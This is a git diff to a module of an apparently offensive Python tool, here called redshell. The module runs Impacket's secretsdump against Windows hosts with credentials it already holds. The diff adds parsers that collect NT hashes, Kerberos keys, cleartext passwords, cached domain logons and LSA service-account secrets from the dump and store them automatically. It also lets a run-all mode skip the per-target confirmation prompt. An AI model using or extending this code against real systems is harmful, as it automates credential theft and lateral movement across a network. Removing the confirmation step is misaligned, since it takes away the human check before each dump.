@@ -1,17 +1,27 @@
+import re
 from datetime import datetime
 from redshell.output_formatter import print_success, print_running, print_fail
 from redshell.methods.builtins import BuiltinBase
 
+# DOMAIN\user:rid:lmhash:nthash::: from SAM and NTDS, LSA machine account hashes have no rid
+HASH_LINE = re.compile(r"^(?:(?P<domain>[^\\:]+)\\)?(?P<username>[^:]+):(?:\d+:)?[0-9a-f]{32}:(?P<nthash>[0-9a-f]{32}):::")
+# DOMAIN\user:aes256-cts-hmac-sha1-96:key from the Kerberos keys section
+KERBEROS_LINE = re.compile(r"^(?:(?P<domain>[^\\:]+)\\)?(?P<username>[^:]+):(?P<ctype>(?:aes\d+|des)-[a-z0-9-]+|rc4_hmac):(?P<key>[0-9a-f]+)$")
+# DOMAIN/user:$DCC2$10240#user#hash: (last logon) from cached domain logons
+CACHED_LINE = re.compile(r"^(?P<domain>[^/:]+)/(?P<username>[^:]+):(?P<hash>\$DCC2\$[^:]+)")
+
 class Secretsdump(BuiltinBase):
     NAME = "secretsdump"
     META = "Runs Impacket's secretsdump.py with current credentials"
     TARGET_OS = ["Windows"]
     OPTIONS = None
+    CONFIRM = True
 
     def __init__(self, method) -> None:
         self.method = method
+        self.lines = []
 
-    def run(self, **_):
+    def run(self, interactive=True, **_):
         # Confirm command before executing
         if self.method.cred.ctype == "password":
             secretsdump_command = f"python /usr/bin/secretsdump.py {self.method.cred.username}:{self.method.cred.cred}@{self.method.ip_addr}"
@@ -24,47 +34,96 @@ class Secretsdump(BuiltinBase):
 
         print()
         print_running(f"About to execute '{secretsdump_command}'")
-        proceed = input("Execute? (y/N) ")
-        if proceed != 'y':
-            return
+        # Already confirmed for every target by run-all
+        if interactive:
+            proceed = input("Execute? (y/N) ")
+            if proceed != 'y':
+                return
 
         self.cmd_time = datetime.now().strftime("%Y%m%d-%H%M%S")
-        output = self.method.client.containers.run(
+        container = self.method.client.containers.run(
             self.method.docker_tag,
             secretsdump_command,
-            remove=True,
-            volumes={self.method.collect_path: {"bind": "/data", "mode": "rw"}},
+            detach=True,
+            volumes=self.method.docker_volumes({self.method.collect_path: {"bind": "/data", "mode": "rw"}}),
         )
-        self.output = output.decode().strip()
-
-        # Write output to terminal
-        print(self.output)
+        try:
+            # Credentials are stored while the dump is still running
+            added = self.method.target.credentials.bulk_add(
+                _secretsdump_parser(self._stream_lines(container), self.method.ip_addr)
+            )
+        finally:
+            container.remove(force=True)
+        self.output = "\n".join(self.lines).strip()
         self.write_to_file()
 
-    def write_to_file(self):
-        # Run standard method first
-        super().write_to_file()
-        
-        self.parse_output()
-
-    def parse_output(self):
-        # Parse secretsdump output and add to credentials
         print()
-        output_list = self.output.split("\n")
-        sam_hash_start = "[*] Dumping local SAM hashes (uid:rid:lmhash:nthash)"
+        print_success(f"{added} new credentials added")
+
+    def _stream_lines(self, container):
+        """
+        Yields the container's output line by line as it runs, printing and keeping each line.
+        """
+        buffer = ""
+        for chunk in container.logs(stream=True, follow=True):
+            buffer += chunk.decode(errors="replace")
+            *lines, buffer = buffer.split("\n")
+            for line in lines:
+                line = line.rstrip("\r")
+                print(line)
+                self.lines.append(line)
+                yield line
+        if buffer:
+            print(buffer)
+            self.lines.append(buffer)
+            yield buffer
+
+def _secretsdump_parser(lines, origin: str):
+    """
+    Yields credentials from secretsdump output: SAM and NTDS hashes, Kerberos keys, cleartext
+    passwords, cached domain logons and LSA secrets that hold an account's password or hash.
+    """
+    section = None
+    lsa_secret = None
+    for line in lines:
+        line = line.strip()
+        if line.startswith("[*] "):
+            header = line[4:]
+            if header.startswith("Dumping local SAM hashes"):
+                section = "sam"
+            elif header.startswith("Dumping cached domain logon"):
+                section = "cached"
+            elif header.startswith("Dumping LSA Secrets"):
+                section = "lsa"
+            elif header.startswith("Dumping Domain Credentials") or header.startswith("Kerberos keys") or header.startswith("ClearText password"):
+                section = "ntds"
+            elif section == "lsa":
+                # Name of the LSA secret the next lines belong to
+                lsa_secret = header
+            continue
+        if not line or section is None:
+            continue
+
+        match = HASH_LINE.match(line)
+        if match:
+            yield {"username": match["username"], "domain": match["domain"], "ctype": "nthash", "cred": match["nthash"], "origin": origin}
+            continue
 
-        record = False
-        sam_hashes = []
-        for line in output_list:
-            if record == False:
-                if line == sam_hash_start:
-                    record = True
-            else:
-                if not line.startswith("[*]"):
-                    sam_hashes.append(line)
-                else:
-                    record = False
-        
-        for line in sam_hashes:
-            username, rid, lm_hash, nt_hash = line.split(":")[:4]
-            self.method.target.credentials.append(username=username, ctype="nthash", cred=nt_hash, origin=self.method.ip_addr)
\ No newline at end of file
+        if section == "ntds":
+            match = KERBEROS_LINE.match(line)
+            if match:
+                yield {"username": match["username"], "domain": match["domain"], "ctype": match["ctype"], "cred": match["key"], "origin": origin}
+            elif ":CLEARTEXT:" in line:
+                account, cred = line.split(":CLEARTEXT:", 1)
+                domain, _, username = account.rpartition("\\")
+                yield {"username": username, "domain": domain or None, "ctype": "password", "cred": cred, "origin": origin}
+        elif section == "cached":
+            match = CACHED_LINE.match(line)
+            if match:
+                yield {"username": match["username"], "domain": match["domain"], "ctype": "dcc2", "cred": match["hash"], "origin": origin}
+        elif section == "lsa" and lsa_secret is not None and lsa_secret.startswith("_SC_"):
+            # Service account passwords come out as account:password
+            account, _, cred = line.partition(":")
+            if cred:
+                domain, _, username = account.rpartition("\\")
+                yield {"username": username, "domain": domain or None, "ctype": "password", "cred": cred, "origin": origin}